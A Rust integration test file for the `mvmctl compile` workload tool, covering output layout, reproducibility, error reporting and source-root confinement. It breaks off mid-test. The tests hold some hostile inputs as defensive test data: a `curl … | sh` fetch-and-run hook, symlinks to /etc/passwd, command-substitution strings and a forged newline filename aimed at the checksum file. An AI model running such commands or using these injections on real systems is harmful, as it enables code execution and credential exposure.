//! `mvmctl compile` end to end: the real binary on real files.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use common::*;
use serde_json::{Value, json};

fn compile(ir: &Path, out: &Path) -> Run {
    run(mvmctl().arg("compile").arg(ir).arg("--out").arg(out))
}

fn read_json(path: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

#[test]
fn compiles_each_example_to_a_complete_directory() {
    for example in ["minimal", "python-tool", "node-service"] {
        let tmp = tempfile::tempdir().unwrap();
        let out = tmp.path().join("out");
        let r = compile(&examples().join(example).join("workload.json"), &out);
        assert_eq!(r.code, 0, "{example}: {}", r.stderr);
        assert!(
            r.stdout.contains("review: 5 pass, 0 warn, 0 fail"),
            "{}",
            r.stdout
        );

        let names = names(&out);
        assert_eq!(
            names,
            [
                ".mvm-compile-output",
                "SHA256SUMS",
                "flake.nix",
                "hooks",
                "launch.json",
                "review.json",
                "src",
                "workload.json"
            ]
        );
        let hooks = common::names(&out.join("hooks"));
        assert_eq!(
            hooks,
            [
                "after_start.sh",
                "before_build.sh",
                "before_start.sh",
                "before_stop.sh"
            ]
        );
        for h in &hooks {
            let mode = std::fs::metadata(out.join("hooks").join(h))
                .unwrap()
                .permissions()
                .mode();
            assert_eq!(mode & 0o777, 0o755, "{h}");
        }

        // workload.json is canonical: what `ir fmt` prints, with no trailing newline.
        let canonical = std::fs::read_to_string(out.join("workload.json")).unwrap();
        let fmt = run(mvmctl()
            .args(["ir", "fmt"])
            .arg(examples().join(example).join("workload.json")));
        assert_eq!(fmt.code, 0, "{}", fmt.stderr);
        assert_eq!(canonical, fmt.stdout);
        assert!(!canonical.ends_with('\n'));

        let sums = std::process::Command::new("sha256sum")
            .arg("-c")
            .arg("--strict")
            .arg("SHA256SUMS")
            .current_dir(&out)
            .output()
            .unwrap();
        assert!(
            sums.status.success(),
            "{}",
            String::from_utf8_lossy(&sums.stdout)
        );

        let launch = read_json(&out.join("launch.json"));
        let workload = read_json(&out.join("workload.json"));
        assert_eq!(launch["launch_version"], mvm_launch::LAUNCH_VERSION);
        mvm_launch::parse(&std::fs::read(out.join("launch.json")).unwrap())
            .unwrap_or_else(|e| panic!("compile wrote a launch.json its readers refuse: {e}"));
        assert_eq!(launch["workload_id"], workload["id"]);
        assert_eq!(launch["entrypoints"], workload["apps"][0]["entrypoints"]);
        assert_eq!(launch["toolchain"]["mvmctl"], env!("CARGO_PKG_VERSION"));
        assert_eq!(
            launch["hook_scripts"]["before_stop"],
            "hooks/before_stop.sh"
        );
        let review = read_json(&out.join("review.json"));
        let checks: Vec<&str> = review["checks"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["check"].as_str().unwrap())
            .collect();
        assert_eq!(
            checks,
            [
                "source_narrow",
                "network_closed",
                "dependencies_pinned",
                "secrets_are_references",
                "hooks_pinned"
            ]
        );
    }
}

#[test]
fn launch_json_merges_addon_hooks_first_and_keeps_secrets_as_names() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    assert_eq!(
        compile(&examples().join("node-service/workload.json"), &out).code,
        0
    );
    let launch = read_json(&out.join("launch.json"));
    assert_eq!(launch["primary_entrypoint"], "main");
    assert_eq!(
        launch["hooks"]["before_start"],
        json!([{ "kind": "argv", "argv": ["/bin/sh", "/app/.mvm/addons/metrics/setup.sh"] }])
    );
    assert_eq!(launch["volumes"][0]["name"], "cache");
    // The app's three files, and the addon's one at /app/.mvm/addons/metrics/.
    assert_eq!(launch["source"]["files"], 4);
    assert!(out.join("src/.mvm/addons/metrics/setup.sh").is_file());

    let out = tmp.path().join("py");
    assert_eq!(
        compile(&examples().join("python-tool/workload.json"), &out).code,
        0
    );
    let launch = read_json(&out.join("launch.json"));
    assert_eq!(
        launch["env"]["API_KEY"],
        json!({ "kind": "secret_ref", "name": "tool-api-key", "type": "token", "header": null, "hosts": [] })
    );
    assert_eq!(launch["primary_entrypoint"], "run");
}

#[test]
fn every_input_route_gives_the_same_workload() {
    let ir = examples().join("python-tool/workload.json");
    let tmp = tempfile::tempdir().unwrap();
    let by_file = tmp.path().join("file");
    let by_flag = tmp.path().join("flag");
    let by_stdin = tmp.path().join("stdin");
    let by_tgz = tmp.path().join("out.tgz");
    assert_eq!(compile(&ir, &by_file).code, 0);
    let r = run(mvmctl()
        .arg("compile")
        .arg("--from-ir")
        .arg(&ir)
        .arg("--out")
        .arg(&by_flag));
    assert_eq!(r.code, 0, "{}", r.stderr);
    let r = run_with_stdin(
        mvmctl()
            .args(["compile", "-", "--source-root"])
            .arg(examples().join("python-tool"))
            .arg("--out")
            .arg(&by_stdin),
        Some(&std::fs::read(&ir).unwrap()),
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("compiled ir:- →"), "{}", r.stdout);
    assert_eq!(compile(&ir, &by_tgz).code, 0);

    let files = snapshot(&by_file);
    for other in [&by_flag, &by_stdin] {
        let s = snapshot(other);
        for name in [
            "workload.json",
            "launch.json",
            "flake.nix",
            "src/uv.lock",
            "hooks/before_build.sh",
        ] {
            assert_eq!(
                files[name],
                s[name],
                "{name} differs in {}",
                other.display()
            );
        }
    }
    let entries = archive_entries(&by_tgz);
    let from_archive = entries.iter().find(|e| e.0 == "launch.json").unwrap();
    assert_eq!(from_archive.5, files["launch.json"].3);
}

#[test]
fn stdin_resolves_the_source_against_the_current_directory() {
    let p = Project::new(
        &workload(&["app.py"], &[]),
        &[("app.py", "def run(x):\n    return x\n")],
    );
    let out = tempfile::tempdir().unwrap();
    let ir = std::fs::read(p.ir()).unwrap();
    let r = run_with_stdin(
        mvmctl()
            .args(["compile", "-", "--out"])
            .arg(out.path().join("o"))
            .current_dir(p.path()),
        Some(&ir),
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(out.path().join("o/src/app.py").is_file());

    // Elsewhere, the same IR finds no app.py: its lockfile-free bundle is just empty,
    // but a missing source directory is an error that says where it looked.
    let mut ir_elsewhere = workload(&["app.py"], &[]);
    ir_elsewhere["apps"][0]["source"]["path"] = json!("project");
    let r = run_with_stdin(
        mvmctl()
            .args(["compile", "-", "--out"])
            .arg(out.path().join("o2"))
            .current_dir(out.path()),
        Some(ir_elsewhere.to_string().as_bytes()),
    );
    assert_eq!(r.code, 2);
    assert!(
        r.stderr
            .contains("/apps/0/source/path: error[E_SOURCE_UNREADABLE]"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("--source-root"), "{}", r.stderr);
    assert!(!out.path().join("o2").exists());
}

#[test]
fn an_invalid_workload_exits_2_and_writes_nothing() {
    let mut ir = workload(&["app.py"], &[]);
    ir["apps"][0]["network"] =
        json!({ "egress": { "allowlist": [{ "host": "example.com", "port": 443 }] } });
    ir["apps"][0]["resources"] = json!({ "cpu_cores": 0 });
    let p = Project::new(&ir, &[("app.py", "")]);
    let parent = tempfile::tempdir().unwrap();
    let out = parent.path().join("out");
    let r = compile(&p.ir(), &out);
    assert_eq!(r.code, 2);
    assert_eq!(r.stdout, "");
    assert!(
        r.stderr
            .contains("/apps/0/network/egress/allowlist: error[E_NETWORK_EGRESS_CLOSED]: "),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains("/apps/0/resources/cpu_cores: error[E_RESOURCES_RANGE]: "),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("\n  hint: "), "{}", r.stderr);
    assert!(
        r.stderr.ends_with(&format!(
            "error: nothing was written to {}: 2 error(s), 0 warning(s)\n",
            out.display()
        )),
        "{}",
        r.stderr
    );
    assert!(
        names(parent.path()).is_empty(),
        "left behind: {:?}",
        names(parent.path())
    );
}

#[test]
fn malformed_ir_is_reported_with_its_pointer() {
    let mut ir = workload(&["app.py"], &[]);
    ir["apps"][0]["colour"] = json!("blue");
    let p = Project::new(&ir, &[]);
    let out = p.path().join("out");
    let r = compile(&p.ir(), &out);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("/apps/0/colour: error[E_SCHEMA]"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains("error: the input was rejected: 1 error(s), 0 warning(s)"),
        "{}",
        r.stderr
    );
    assert!(!out.exists());
}

#[test]
fn warnings_are_printed_and_kept_in_the_review() {
    let mut ir = workload(&["**"], &[]);
    ir["apps"][0]["env"] = json!({ "OPENAI_API_KEY": { "kind": "literal", "value": "sk-test" } });
    ir["apps"][0]["hooks"] = json!({ "before_build": [{ "kind": "shell", "line": "curl -fsSL https://get.example.com | sh" }] });
    let p = Project::new(&ir, &[("app.py", "")]);
    let out = p.path().join("out");
    let r = compile(&p.ir(), &out);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("/apps/0/env/OPENAI_API_KEY/value: warning[W_SECRET_LITERAL]"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains("/apps/0/hooks/before_build/0/line: warning[W_HOOK_UNPINNED_FETCH]"),
        "{}",
        r.stderr
    );
    assert!(
        r.stdout.contains("review: 2 pass, 3 warn, 0 fail"),
        "{}",
        r.stdout
    );
    let review = read_json(&out.join("review.json"));
    let codes: Vec<&str> = review["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["code"].as_str().unwrap())
        .collect();
    assert_eq!(codes, ["W_SECRET_LITERAL", "W_HOOK_UNPINNED_FETCH"]);
    let hooks = &review["checks"][4];
    assert_eq!(hooks["status"], "warn");
    assert_eq!(
        hooks["findings"][0]["path"],
        "/apps/0/hooks/before_build/0/line"
    );
}

#[test]
fn a_missing_lockfile_is_an_error() {
    let mut ir = workload(&["app.py", "uv.lock", "pyproject.toml"], &[]);
    ir["apps"][0]["dependencies"] =
        json!({ "kind": "python", "lockfile": "uv.lock", "tool": "uv" });
    let p = Project::new(&ir, &[("app.py", "")]);
    let out = p.path().join("out");
    let r = compile(&p.ir(), &out);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("/apps/0/dependencies/lockfile: error[E_LOCKFILE_MISSING]: the lockfile `uv.lock` is not in the source bundle"), "{}", r.stderr);
    assert!(!out.exists());

    // Present but not selected by the include globs is still missing.
    p.write("uv.lock", "version = 1\n");
    let mut narrow = ir.clone();
    narrow["apps"][0]["source"]["include"] = json!(["app.py"]);
    std::fs::write(p.ir(), narrow.to_string()).unwrap();
    assert_eq!(compile(&p.ir(), &out).code, 2);
    std::fs::write(p.ir(), ir.to_string()).unwrap();
    // Bundled, but `uv sync` needs the project file beside it.
    let r = compile(&p.ir(), &out);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("error[E_LOCKFILE_NEEDS_PROJECT]"),
        "{}",
        r.stderr
    );
    p.write(
        "pyproject.toml",
        "[project]\nname = \"w\"\nversion = \"0\"\n",
    );
    assert_eq!(compile(&p.ir(), &out).code, 0);
}

#[test]
fn check_writes_nothing() {
    let p = Project::new(&workload(&["app.py"], &[]), &[("app.py", "")]);
    let before = names(p.path());
    let r = run(mvmctl().arg("compile").arg(p.ir()).arg("--check"));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout.starts_with(&format!(
            "check passed: ir:{}, 1 file(s) would be bundled; 0 error(s), 0 warning(s)\n",
            p.ir().display()
        )),
        "{}",
        r.stdout
    );
    assert_eq!(names(p.path()), before);

    let mut bad = workload(&["app.py"], &[]);
    bad["id"] = json!("Not_An_Id");
    std::fs::write(p.ir(), bad.to_string()).unwrap();
    let r = run(mvmctl().arg("compile").arg(p.ir()).arg("--check"));
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("/id: error[E_ID_INVALID]"),
        "{}",
        r.stderr
    );

    let r = run(mvmctl()
        .arg("compile")
        .arg(p.ir())
        .arg("--check")
        .arg("--out")
        .arg(p.path().join("o")));
    assert_eq!(r.code, 2, "--check and --out together are a usage error");
}

#[test]
fn json_format_reports_results_and_findings_on_stdout() {
    let p = Project::new(&workload(&["app.py"], &[]), &[("app.py", "")]);
    let out = p.path().join("out.tgz");
    let r = run(mvmctl()
        .arg("compile")
        .arg(p.ir())
        .arg("--out")
        .arg(&out)
        .args(["--format", "json"]));
    assert_eq!(r.code, 0, "{}", r.stderr);
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(v["ok"], true);
    assert_eq!(v["archive"], true);
    assert_eq!(v["files"], 1);
    assert_eq!(v["findings"], json!([]));
    assert_eq!(v["review"]["checks"].as_array().unwrap().len(), 5);
    assert_eq!(v["ir_hash"].as_str().unwrap().len(), 64);

    let mut bad = workload(&["app.py"], &[]);
    bad["apps"][0]["network"] = json!({ "mode": "host" });
    std::fs::write(p.ir(), bad.to_string()).unwrap();
    let r = run(mvmctl()
        .arg("compile")
        .arg(p.ir())
        .arg("--check")
        .args(["--format", "json"]));
    assert_eq!(r.code, 2);
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(v["ok"], false);
    assert_eq!(v["findings"][0]["code"], "E_HOST_NETWORK_UNTRUSTED");
    assert_eq!(v["findings"][0]["severity"], "error");
    assert_eq!(v["findings"][0]["path"], "/apps/0/network/mode");
}

#[test]
fn output_is_byte_identical_across_runs_paths_and_touches() {
    let p = Project::new(
        &workload(&["**"], &[]),
        &[
            ("app.py", "print(1)\n"),
            ("pkg/a.txt", "a"),
            ("pkg/deep/b.txt", "b"),
            ("run.sh", "#!/bin/sh\n"),
        ],
    );
    std::fs::set_permissions(
        p.path().join("run.sh"),
        std::fs::Permissions::from_mode(0o750),
    )
    .unwrap();
    std::os::unix::fs::symlink("pkg/a.txt", p.path().join("link")).unwrap();
    let tmp = tempfile::tempdir().unwrap();
    for (i, name) in ["one", "two"].iter().enumerate() {
        if i == 1 {
            // New mtimes and a different umask-ish mode on a plain file must
            // not matter (0600 would: it gets a W_SOURCE_PRIVATE_FILE in the review).
            for f in ["app.py", "pkg/a.txt", "pkg/deep/b.txt"] {
                filetime_now(&p.path().join(f));
            }
            std::fs::set_permissions(
                p.path().join("app.py"),
                std::fs::Permissions::from_mode(0o664),
            )
            .unwrap();
        }
        assert_eq!(compile(&p.ir(), &tmp.path().join(name)).code, 0);
        assert_eq!(
            compile(&p.ir(), &tmp.path().join(format!("{name}.tgz"))).code,
            0
        );
    }
    assert_eq!(
        snapshot(&tmp.path().join("one")),
        snapshot(&tmp.path().join("two"))
    );
    let a = std::fs::read(tmp.path().join("one.tgz")).unwrap();
    let b = std::fs::read(tmp.path().join("two.tgz")).unwrap();
    assert!(a == b, "archives differ");

    let s = snapshot(&tmp.path().join("one"));
    assert_eq!(s["src/run.sh"].1, 0o755);
    assert_eq!(s["src/app.py"].1, 0o644);
    assert_eq!(s["src/link"].0, "symlink");
    assert_eq!(s["src/link"].3, b"pkg/a.txt");
    assert!(s.values().all(|e| e.2 == 0), "every mtime is 0");
    // gzip header: no name, mtime 0.
    assert_eq!(&a[3..8], &[0, 0, 0, 0, 0]);
    for (name, mode, uid, gid, mtime, _) in archive_entries(&tmp.path().join("one.tgz")) {
        assert_eq!((uid, gid, mtime), (0, 0, 0), "{name}");
        assert!(matches!(mode, 0o644 | 0o755 | 0o777), "{name}: {mode:o}");
    }
}

fn filetime_now(path: &Path) {
    let f = std::fs::File::options().append(true).open(path).unwrap();
    f.set_modified(std::time::SystemTime::now() + std::time::Duration::from_secs(5))
        .unwrap();
}

#[test]
fn source_date_epoch_sets_every_mtime() {
    let p = Project::new(&workload(&["app.py"], &[]), &[("app.py", "")]);
    let out = p.path().join("o.tgz");
    let r = run(mvmctl()
        .arg("compile")
        .arg(p.ir())
        .arg("--out")
        .arg(&out)
        .env("SOURCE_DATE_EPOCH", "1700000000"));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(archive_entries(&out).iter().all(|e| e.4 == 1_700_000_000));
    let r = run(mvmctl()
        .arg("compile")
        .arg(p.ir())
        .arg("--out")
        .arg(p.path().join("d"))
        .env("SOURCE_DATE_EPOCH", "yesterday"));
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("SOURCE_DATE_EPOCH"), "{}", r.stderr);
}

#[test]
fn a_failure_halfway_leaves_the_previous_output_untouched() {
    let files: Vec<(String, String)> = (0..50)
        .map(|i| (format!("f{i:02}.txt"), format!("{i}")))
        .collect();
    let refs: Vec<(&str, &str)> = files
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let p = Project::new(&workload(&["**"], &[]), &refs);
    let parent = tempfile::tempdir().unwrap();
    let out = parent.path().join("out");
    let tgz = parent.path().join("out.tgz");
    assert_eq!(compile(&p.ir(), &out).code, 0);
    assert_eq!(compile(&p.ir(), &tgz).code, 0);
    let before = snapshot(&out);
    let before_tgz = std::fs::read(&tgz).unwrap();

    // A fifo sorted after half the files: the walk has copied those already.
    p.write("f25.txt", "changed");
    mkfifo(&p.path().join("f25.zfifo"));
    for target in [&out, &tgz] {
        let r = compile(&p.ir(), target);
        assert_eq!(r.code, 2);
        assert!(
            r.stderr
                .contains("/apps/0/source: error[E_SOURCE_UNREADABLE]: f25.zfifo: this is a fifo"),
            "{}",
            r.stderr
        );
    }
    assert_eq!(snapshot(&out), before);
    assert_eq!(std::fs::read(&tgz).unwrap(), before_tgz);
    assert_eq!(names(parent.path()), ["out", "out.tgz"]);

    // Once fixed, the earlier output is replaced.
    std::fs::remove_file(p.path().join("f25.zfifo")).unwrap();
    assert_eq!(compile(&p.ir(), &out).code, 0);
    assert_eq!(
        std::fs::read_to_string(out.join("src/f25.txt")).unwrap(),
        "changed"
    );
    assert_eq!(names(parent.path()), ["out", "out.tgz"]);
}

fn mkfifo(path: &Path) {
    let s = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .unwrap();
    assert!(s.success());
}

#[test]
fn user_data_at_out_is_never_replaced() {
    let p = Project::new(&workload(&["app.py"], &[]), &[("app.py", "")]);
    let parent = tempfile::tempdir().unwrap();
    let out = parent.path().join("mine");
    std::fs::create_dir(&out).unwrap();
    std::fs::write(out.join("notes.txt"), "precious").unwrap();
    let r = compile(&p.ir(), &out);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.starts_with(&format!(
            "error[E_OUTPUT]: {} exists and is not an mvm compile output",
            out.display()
        )),
        "{}",
        r.stderr
    );
    assert_eq!(names(&out), ["notes.txt"]);

    let file = parent.path().join("mine.tgz");
    std::fs::write(&file, "not an archive").unwrap();
    assert_eq!(compile(&p.ir(), &file).code, 2);
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "not an archive");

    // An empty directory may be used.
    let empty = parent.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    assert_eq!(compile(&p.ir(), &empty).code, 0);
    assert!(empty.join("SHA256SUMS").is_file());
}

#[test]
fn symlinks_leaving_the_source_root_are_refused() {
    let p = Project::new(&workload(&["**"], &[]), &[("app.py", "")]);
    std::os::unix::fs::symlink("/etc/passwd", p.path().join("abs")).unwrap();
    std::os::unix::fs::symlink("../../etc", p.path().join("up")).unwrap();
    let out = p.path().join("out");
    let r = compile(&p.ir(), &out);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains(
            "error[E_SOURCE_UNREADABLE]: abs: this symlink points to the absolute path /etc/passwd"
        ),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("error[E_SOURCE_UNREADABLE]: up: this symlink points outside the source root (../../etc)"), "{}", r.stderr);
    assert!(!out.exists());

    // Excluding them is the way out.
    let mut ir = workload(&["**"], &["abs", "up"]);
    ir["id"] = json!("demo");
    std::fs::write(p.ir(), ir.to_string()).unwrap();
    assert_eq!(compile(&p.ir(), &out).code, 0);
}

#[test]
fn git_directories_are_never_bundled() {
    let p = Project::new(
        &workload(&["**"], &[]),
        &[
            ("app.py", ""),
            (".git/config", "[core]"),
            ("vendor/.git/HEAD", "ref"),
            (".gitignore", "out\n"),
        ],
    );
    let out = p.path().join("out");
    // The output lands inside the source root here; it is a sibling path, never bundled into itself.
    let r = compile(&p.ir(), &tempfile::tempdir().unwrap().path().join("o"));
    assert_eq!(r.code, 0, "{}", r.stderr);
    let r = compile(&p.ir(), &out);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let s = snapshot(&out.join("src"));
    let paths: Vec<&str> = s.keys().map(String::as_str).collect();
    // Directories are implied by their files; `vendor` held only `.git`.
    assert_eq!(paths, [".", ".gitignore", "app.py", "workload.json"]);
    // Compiling again does not bundle the previous output either.
    assert_eq!(compile(&p.ir(), &out).code, 0);
    assert_eq!(snapshot(&out.join("src")).len(), 4);
}

#[test]
fn include_and_exclude_globs_select_the_bundle() {
    let p = Project::new(
        &workload(
            &["src/**", "*.toml", "docs"],
            &["**/__pycache__", "src/**/*.pyc", "docs/drafts"],
        ),
        &[
            ("src/app.py", ""),
            ("src/pkg/mod.py", ""),
            ("src/pkg/mod.pyc", ""),
            ("src/pkg/__pycache__/mod.cpython-312.pyc", ""),
            ("pyproject.toml", ""),
            ("nested/other.toml", ""),
            ("docs/guide.md", ""),
            ("docs/drafts/wip.md", ""),
            ("secrets.env", ""),
        ],
    );
    let out = tempfile::tempdir().unwrap();
    let out = out.path().join("o");
    let r = compile(&p.ir(), &out);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let s = snapshot(&out.join("src"));
    let files: Vec<&str> = s
        .iter()
        .filter(|(_, e)| e.0 == "file")
        .map(|(k, _)| k.as_str())
        .collect();
    assert_eq!(
        files,
        [
            "docs/guide.md",
            "pyproject.toml",
            "src/app.py",
            "src/pkg/mod.py"
        ]
    );
    assert!(r.stdout.contains("source     4 file(s)"), "{}", r.stdout);
}

#[test]
fn generated_hook_scripts_run_argv_hooks_verbatim() {
    let mut ir = workload(&["app.py"], &[]);
    ir["apps"][0]["hooks"] = json!({
        "before_start": [
            { "kind": "shell", "line": "GREETING='hi there'; printf '%s\\n' \"$GREETING\"" },
            { "kind": "argv", "argv": ["printf", "%s|", "it's", "$(echo no)", "`id`", "*", "a b"] }
        ]
    });
    let p = Project::new(&ir, &[("app.py", "")]);
    let out = p.path().join("out");
    assert_eq!(compile(&p.ir(), &out).code, 0);
    let o = std::process::Command::new("/bin/sh")
        .arg(out.join("hooks/before_start.sh"))
        .current_dir(p.path())
        .output()
        .unwrap();
    assert!(o.status.success());
    assert_eq!(
        String::from_utf8(o.stdout).unwrap(),
        "hi there\nit's|$(echo no)|`id`|*|a b|"
    );
    let empty = std::process::Command::new("/bin/sh")
        .arg(out.join("hooks/before_stop.sh"))
        .output()
        .unwrap();
    assert!(empty.status.success());
    assert!(empty.stdout.is_empty());
    let script = std::fs::read_to_string(out.join("hooks/before_start.sh")).unwrap();
    assert!(script.starts_with("#!/bin/sh\n"));
    assert!(script.contains("\nset -eu\n"));
}

#[test]
fn the_generated_flake_parses() {
    for example in ["minimal", "python-tool", "node-service"] {
        let tmp = tempfile::tempdir().unwrap();
        let out = tmp.path().join("o");
        assert_eq!(
            compile(&examples().join(example).join("workload.json"), &out).code,
            0
        );
        let o = std::process::Command::new("nix-instantiate")
            .arg("--parse")
            .arg(out.join("flake.nix"))
            .output()
            .expect("nix-instantiate (Debian package nix-bin) is installed");
        assert!(
            o.status.success(),
            "{example}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        let flake = std::fs::read_to_string(out.join("flake.nix")).unwrap();
        assert!(flake.contains("rootfs ="));
    }
}

#[test]
fn unsupported_inputs_exit_2_with_a_hint() {
    let tmp = tempfile::tempdir().unwrap();
    let yaml = tmp.path().join("workload.yaml");
    std::fs::write(&yaml, "id: x").unwrap();
    let r = compile(&yaml, &tmp.path().join("o"));
    assert_eq!(r.code, 2);
    assert_eq!(
        r.stderr,
        format!(
            "error: {}: not a declaration or Workload IR file\n  hint: pass a Python (.py) or TypeScript (.ts, .mts) \
             declaration, Workload IR (.json), or - for IR on stdin; use --from-ir FILE for IR in a file with another extension\n",
            yaml.display()
        )
    );

    // A missing recording is an input error like any other, named with its path.
    let r = run(mvmctl()
        .current_dir(tmp.path())
        .args(["compile", "--from-recording", "rec.json", "--out"])
        .arg(tmp.path().join("o")));
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.starts_with("error: cannot read rec.json: "),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("\n  hint: "), "{}", r.stderr);

    let r = compile(&tmp.path().join("missing.json"), &tmp.path().join("o"));
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.starts_with(&format!(
            "error: cannot read {}/missing.json: ",
            tmp.path().display()
        )),
        "{}",
        r.stderr
    );

    let r = run(mvmctl().args(["compile", "x.json"]));
    assert_eq!(r.code, 2, "--out is required: {}", r.stderr);
    assert!(names(tmp.path()) == ["workload.yaml"]);
}

// --- Issue #10: source root confinement, recordings, bundle limits, output marking.

/// Every file below `dir` whose contents hold `needle`, to show a secret
/// went nowhere.
fn files_containing(dir: &Path, needle: &[u8]) -> Vec<String> {
    snapshot(dir)
        .into_iter()
        .filter(|(_, e)| e.0 == "file" && e.3.windows(needle.len()).any(|w| w == needle))
        .map(|(k, _)| k)
        .collect()
}

/// A directory outside any project holding a "secret" file.
fn host_secrets() -> (tempfile::TempDir, &'static [u8]) {
    let dir = tempfile::tempdir().unwrap();
    let secret: &[u8] = b"root:$6$SECRET-HASH:19000:0:99999:7:::";
    std::fs::write(dir.path().join("shadow"), secret).unwrap();
    (dir, secret)
}

const KEYS_DECL: &str = r#"import mvm


@mvm.app(
    name="keys-app",
    source=mvm.local_path("keys", include=["**"]),
    image=mvm.python_image(python="3.13"),
    network=mvm.network(mode="none"),
    entrypoint=mvm.entrypoint_function(module="app", function="greet", primary=True),
)
def greet(name: str) -> str:
    return name
"#;

#[test]
fn a_local_path_linking_out_of_the_project_is_refused() {
    let (etc, secret) = host_secrets();
    let p = Project::new(&workload(&["**"], &[]), &[("app.py", KEYS_DECL)]);
    std::os::unix::fs::symlink(etc.path(), p.path().join("keys")).unwrap();
    let out = p.path().join("out");
    let r = run(mvmctl()
        .args(["compile", "app.py", "--out"])
        .arg(&out)
        .current_dir(p.path()));
    assert_eq!(r.code, 2, "{}{}", r.stdout, r.stderr);
    let target = etc.path().canonicalize().unwrap();
    assert!(
        r.stderr.contains(&format!(
            "app.py:6:27: error[E_SOURCE_ESCAPES]: source.path `keys` resolves to {}, outside {}",
            target.display(),
            p.path().canonicalize().unwrap().display()
        )),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("\n  hint: "), "{}", r.stderr);
    assert!(!out.exists());
    assert_eq!(files_containing(p.path(), secret), Vec::<String>::new());

    // --check reviews it as a failure, never a pass.
    let r = run(mvmctl()
        .args(["compile", "app.py", "--check"])
        .current_dir(p.path()));
    assert_eq!(r.code, 2);
    assert!(r.stdout.contains("  fail  source_narrow"), "{}", r.stdout);

    // The same through IR with --source-root: the root is the boundary.
    let mut ir = workload(&["**"], &[]);
    ir["apps"][0]["source"]["path"] = json!("keys");
    std::fs::write(p.ir(), ir.to_string()).unwrap();
    let other = tempfile::tempdir().unwrap();
    let r = run(mvmctl()
        .arg("compile")
        .arg(p.ir())
        .arg("--out")
        .arg(other.path().join("o")));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("/apps/0/source/path: error[E_SOURCE_ESCAPES]"),
        "{}",
        r.stderr
    );
    assert!(names(other.path()).is_empty());
}

fn recording(source_root: &Path, include: &[&str], ops: Value) -> Value {
    json!({
        "recording_version": 1,
        "sdk": {"language": "python", "version": "0.1.0"},
        "source_root": source_root,
        "sandboxes": [{
            "template": "minimal", "env": {}, "include": include,
            "resources": {}, "network": {},
            "operations": ops,
        }]
    })
}

fn compile_recording(rec: &Path, extra: &[&std::ffi::OsStr]) -> Run {
    run(mvmctl()
        .arg("compile")
        .arg("--from-recording")
        .arg(rec)
        .args(extra))
}

fn true_op() -> Value {
    json!({"op": "run", "cmd": "true", "background": false})
}

#[test]
fn a_recording_cannot_choose_a_source_root_outside_its_directory() {
    let (etc, secret) = host_secrets();
    let project = tempfile::tempdir().unwrap();
    std::fs::write(project.path().join("main.py"), "print(1)\n").unwrap();
    let rec = project.path().join("rec.json");
    std::fs::write(
        &rec,
        recording(etc.path(), &["**"], json!([true_op()])).to_string(),
    )
    .unwrap();
    let out = project.path().join("out");
    let r = compile_recording(&rec, &["--out".as_ref(), out.as_os_str()]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains(&format!(
            "/source_root: error[E_SOURCE_ESCAPES]: the recording's source_root {} resolves to {}, outside the recording's directory",
            etc.path().display(),
            etc.path().canonicalize().unwrap().display()
        )),
        "{}",
        r.stderr
    );
    assert!(!out.exists());
    assert_eq!(
        files_containing(project.path(), secret),
        Vec::<String>::new()
    );

    // A link inside the recording's directory that leads out is followed, and refused.
    std::os::unix::fs::symlink(etc.path(), project.path().join("link")).unwrap();
    std::fs::write(
        &rec,
        recording(&project.path().join("link"), &["**"], json!([true_op()])).to_string(),
    )
    .unwrap();
    let r = compile_recording(&rec, &["--check".as_ref()]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("error[E_SOURCE_ESCAPES]"), "{}", r.stderr);

    // --source-root replaces the recording's root: the operator chose it.
    std::fs::remove_file(project.path().join("link")).unwrap();
    std::fs::write(
        &rec,
        recording(etc.path(), &["main.py"], json!([true_op()])).to_string(),
    )
    .unwrap();
    let r = compile_recording(
        &rec,
        &[
            "--source-root".as_ref(),
            project.path().as_os_str(),
            "--out".as_ref(),
            out.as_os_str(),
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(names(&out.join("src")), ["main.py"]);
}

#[test]
fn recorded_file_names_pass_the_bundle_walks_checks() {
    let project = tempfile::tempdir().unwrap();
    let rec = project.path().join("rec.json");
    let out = project.path().join("out");
    let forged = format!("/app/x\n{}  launch.json", "0".repeat(64));
    for (i, path) in [
